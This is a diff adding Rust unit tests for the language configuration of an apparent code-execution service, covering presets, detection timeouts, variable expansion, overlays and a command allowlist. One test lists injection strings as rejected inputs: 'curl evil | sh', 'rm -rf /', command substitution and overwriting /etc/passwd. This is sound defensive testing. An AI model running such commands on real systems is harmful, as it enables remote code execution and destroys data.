+        let release = gcc.compile_args_for(Some("release")).unwrap();
+        assert_eq!(release[..gcc.compile_args.len()], gcc.compile_args[..]);
+        assert_eq!(release.last().map(String::as_str), Some("-O2"));
+
+        let debug = gcc.compile_args_for(Some("debug")).unwrap();
+        assert!(debug.ends_with(&["-O0".to_string(), "-g".to_string()]));
+
+        let rust = configs["rust"].compile_args_for(Some("release")).unwrap();
+        assert!(rust.ends_with(&["-C".to_string(), "opt-level=2".to_string()]));
+    }
+
+    #[test]
+    fn test_unknown_optimization_preset_is_rejected() {
+        let configs = generate_language_configs();
+        let err = configs["gcc"]
+            .compile_args_for(Some("fastest"))
+            .unwrap_err();
+        assert!(err.to_string().contains("fastest"));
+    }
+
+    #[cfg(unix)]
+    fn version_only_config(version_command: &str) -> LanguageConfig {
+        LanguageConfig {
+            display_name: "Test".to_string(),
+            file_name: "main.txt".to_string(),
+            version_command: version_command.to_string(),
+            compile_command: None,
+            compile_args: vec![],
+            run_command: "cat".to_string(),
+            run_args: vec![],
+            file_extension: "txt".to_string(),
+            optimization_presets: HashMap::new(),
+            default_timeout_ms: None,
+            default_memory_limit_kb: None,
+            canary: None,
+        }
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_detection_deadline_skips_slow_languages() {
+        let mut configs = HashMap::new();
+        configs.insert("fast".to_string(), version_only_config("echo fast 1.0"));
+        configs.insert(
+            "slow".to_string(),
+            version_only_config("sleep 2; echo slow 1.0"),
+        );
+
+        let start = std::time::Instant::now();
+        let result = detect_languages_within(&configs, Duration::from_millis(500)).await;
+
+        assert!(start.elapsed() < Duration::from_millis(1500));
+        assert_eq!(result.installed.len(), 1);
+        assert_eq!(result.installed[0].name, "fast");
+        assert_eq!(result.pending, vec!["slow".to_string()]);
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_detection_respects_configured_timeout() {
+        let mut configs = HashMap::new();
+        configs.insert(
+            "tool".to_string(),
+            version_only_config("sleep 0.3; echo tool 1.0"),
+        );
+
+        let short = DetectionTimeouts {
+            default: Duration::from_millis(100),
+            slow: Duration::from_secs(5),
+        };
+        let result = detect_languages_with(&configs, Duration::from_secs(5), short).await;
+        assert!(result.installed.is_empty());
+        assert!(
+            result.pending.is_empty(),
+            "timed-out check is finished, not pending"
+        );
+
+        let long = DetectionTimeouts {
+            default: Duration::from_secs(2),
+            ..short
+        };
+        let result = detect_languages_with(&configs, Duration::from_secs(5), long).await;
+        assert_eq!(result.installed.len(), 1);
+    }
+
+    #[test]
+    fn test_slow_toolchains_get_longer_timeout() {
+        let timeouts = DetectionTimeouts::default();
+        assert_eq!(timeouts.for_language("python3"), Duration::from_secs(3));
+        assert_eq!(timeouts.for_language("java"), timeouts.slow);
+        assert!(timeouts.slow > timeouts.default);
+        assert!(timeouts.slow < DEFAULT_DETECTION_DEADLINE);
+    }
+
+    fn lookup(name: &str) -> Option<String> {
+        match name {
+            "JAVA_HOME" => Some("/opt/jdk".to_string()),
+            "BIN" => Some("bin".to_string()),
+            _ => None,
+        }
+    }
+
+    #[test]
+    fn test_expand_defined_variables() {
+        let out = expand_vars_with(
+            "${JAVA_HOME}/${BIN}/java",
+            UndefinedVarPolicy::Error,
+            lookup,
+        );
+        assert_eq!(out.unwrap(), "/opt/jdk/bin/java");
+    }
+
+    #[test]
+    fn test_expand_undefined_variable_kept_literal() {
+        let out = expand_vars_with("${MISSING}/java", UndefinedVarPolicy::KeepLiteral, lookup);
+        assert_eq!(out.unwrap(), "${MISSING}/java");
+    }
+
+    #[test]
+    fn test_expand_undefined_variable_errors_when_strict() {
+        let err =
+            expand_vars_with("${MISSING}/java", UndefinedVarPolicy::Error, lookup).unwrap_err();
+        assert!(err.to_string().contains("MISSING"));
+    }
+
+    #[test]
+    fn test_expand_leaves_plain_and_unterminated_text() {
+        let policy = UndefinedVarPolicy::Error;
+        assert_eq!(expand_vars_with("$HOME", policy, lookup).unwrap(), "$HOME");
+        assert_eq!(
+            expand_vars_with("a ${BIN", policy, lookup).unwrap(),
+            "a ${BIN"
+        );
+    }
+
+    #[test]
+    fn test_expand_config_env_drops_unresolvable_languages() {
+        let mut configs = generate_language_configs();
+        let mut java = configs["java"].clone();
+        java.run_command = "${BUILDIT_TEST_SURELY_UNDEFINED}/java".to_string();
+        configs.insert("java".to_string(), java);
+
+        let lenient = expand_config_env(configs.clone(), UndefinedVarPolicy::KeepLiteral);
+        assert_eq!(
+            lenient["java"].run_command,
+            "${BUILDIT_TEST_SURELY_UNDEFINED}/java"
+        );
+
+        let strict = expand_config_env(configs, UndefinedVarPolicy::Error);
+        assert!(!strict.contains_key("java"));
+        assert!(strict.contains_key("python3"));
+    }
+
+    #[test]
+    fn test_load_language_configs_from_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("languages.json");
+        std::fs::write(
+            &path,
+            r#"{"lua": {
+                "display_name": "Lua",
+                "file_name": "main.lua",
+                "version_command": "lua -v",
+                "run_command": "lua",
+                "run_args": ["main.lua"]
+            }}"#,
+        )
+        .unwrap();
+
+        let configs = load_language_configs(Some(&path)).unwrap();
+        let lua = configs.get("lua").expect("lua config should load");
+        assert_eq!(lua.file_extension, "lua");
+        assert!(lua.compile_command.is_none());
+        assert!(!configs.contains_key("python3"));
+    }
+
+    fn write_overlay(dir: &tempfile::TempDir, json: &str) -> PathBuf {
+        let path = dir.path().join("languages.overlay.json");
+        std::fs::write(&path, json).unwrap();
+        path
+    }
+
+    #[test]
+    fn test_overlay_overrides_single_field() {
+        let dir = tempfile::tempdir().unwrap();
+        let overlay = write_overlay(
+            &dir,
+            r#"{"gpp": {
+                "compile_args": ["main.cpp", "-std=c++20", "-o", "main"],
+                "optimization_presets": {"fast": ["-O3"]}
+            }}"#,
+        );
+
+        let configs = load_language_configs_with(None, Some(&overlay)).unwrap();
+        let defaults = generate_language_configs();
+        let gpp = &configs["gpp"];
+        // Arrays are replaced wholesale, objects merged key by key
+        assert_eq!(gpp.compile_args, ["main.cpp", "-std=c++20", "-o", "main"]);
+        assert_eq!(gpp.optimization_presets["fast"], ["-O3"]);
+        assert_eq!(gpp.optimization_presets["release"], ["-O2"]);
+        // Everything else keeps its built-in value
+        assert_eq!(gpp.compile_command, defaults["gpp"].compile_command);
+        assert_eq!(gpp.run_command, defaults["gpp"].run_command);
+        assert_eq!(configs.len(), defaults.len());
+    }
+
+    #[test]
+    fn test_overlay_adds_and_removes_languages() {
+        let dir = tempfile::tempdir().unwrap();
+        let overlay = write_overlay(
+            &dir,
+            r#"{
+                "lua": {
+                    "display_name": "Lua",
+                    "file_name": "main.lua",
+                    "version_command": "lua -v",
+                    "run_command": "lua",
+                    "run_args": ["main.lua"]
+                },
+                "psql": null
+            }"#,
+        );
+
+        let configs = load_language_configs_with(None, Some(&overlay)).unwrap();
+        let lua = configs.get("lua").expect("overlay should add lua");
+        assert_eq!(lua.file_extension, "lua");
+        assert!(!configs.contains_key("psql"));
+        assert!(configs.contains_key("python3"));
+    }
+
+    #[test]
+    fn test_overlay_rejects_incomplete_new_language() {
+        let dir = tempfile::tempdir().unwrap();
+        let overlay = write_overlay(&dir, r#"{"lua": {"run_command": "lua"}}"#);
+        let err = load_language_configs_with(None, Some(&overlay)).unwrap_err();
+        assert!(format!("{:#}", err).contains("lua"));
+    }
+
+    #[test]
+    fn test_command_allowlist_permits_listed_commands() {
+        let configs = generate_language_configs();
+        let allowlist = CommandAllowlist::new(["gcc"], true);
+        // `./main` is the compiled submission, which is always allowed
+        let gcc = &configs["gcc"];
+        if !cfg!(windows) {
+            assert!(allowlist.disallowed_commands(gcc).is_empty());
+        }
+        assert!(CommandAllowlist::default()
+            .disallowed_commands(&configs["python3"])
+            .is_empty());
+    }
+
+    #[test]
+    fn test_command_allowlist_reports_unlisted_commands() {
+        let mut cfg = generate_language_configs()["python3"].clone();
+        cfg.run_command = "rm".to_string();
+        cfg.version_command = "python3 --version".to_string();
+        let allowlist = CommandAllowlist::new(["python3"], false);
+        assert_eq!(allowlist.disallowed_commands(&cfg), vec!["rm"]);
+
+        cfg.run_command = "../../bin/rm".to_string();
+        assert_eq!(allowlist.disallowed_commands(&cfg), vec!["../../bin/rm"]);
+        cfg.run_command = "/bin/rm".to_string();
+        assert_eq!(allowlist.disallowed_commands(&cfg), vec!["/bin/rm"]);
+    }
+
+    #[test]
+    fn test_command_allowlist_rejects_chained_version_commands() {
+        let mut cfg = generate_language_configs()["python3"].clone();
+        let allowlist = CommandAllowlist::new(["python3"], true);
+        for version_command in [
+            "python3 --version; curl evil | sh",
+            "python3 --version && rm -rf /",
+            "python3 $(curl evil)",
+            "python3 `id`",
+            "python3 --version > /etc/passwd",
+            "python3 --version\ncurl evil",
+        ] {
+            cfg.version_command = version_command.to_string();
+            assert_eq!(
+                allowlist.disallowed_commands(&cfg),
+                vec![version_command],
+                "{}",
+                version_command
+            );
+        }
+
+        // Shell syntax is only a concern once commands are restricted
+        assert!(CommandAllowlist::default()
+            .disallowed_commands(&cfg)
+            .is_empty());
+    }
+
+    #[test]
+    fn test_command_allowlist_strict_drops_languages() {
+        let mut configs = HashMap::new();
+        let python = generate_language_configs()["python3"].clone();
+        let mut evil = python.clone();
+        evil.run_command = "rm".to_string();
+        configs.insert("python3".to_string(), python);
+        configs.insert("evil".to_string(), evil);
+
+        let warn_only = enforce_command_allowlist(
+            configs.clone(),
+            &CommandAllowlist::new(["python3", "python"], false),
+        );
+        assert_eq!(warn_only.len(), 2);
+
+        let strict =
+            enforce_command_allowlist(configs, &CommandAllowlist::new(["python3", "python"], true));
+        assert!(strict.contains_key("python3"));
+        assert!(!strict.contains_key("evil"));
+    }
+
+    #[test]
+    fn test_load_language_configs_defaults_without_file() {
+        let configs = load_language_configs(None).unwrap();
+        assert!(configs.contains_key("python3"));
+    }
+
     #[test]
     fn test_all_configs_have_version_command() {
         let configs = generate_language_configs();
-        
+
         for (name, config) in configs.iter() {
-            if name != "psql" { // psql might have different requirements
+            if name != "psql" {
+                // psql might have different requirements
                 assert!(
                     !config.version_command.is_empty(),
                     "Language {} should have a version command",
@@ -606,4 +1656,3 @@ mod tests {
         }
     }
 }
-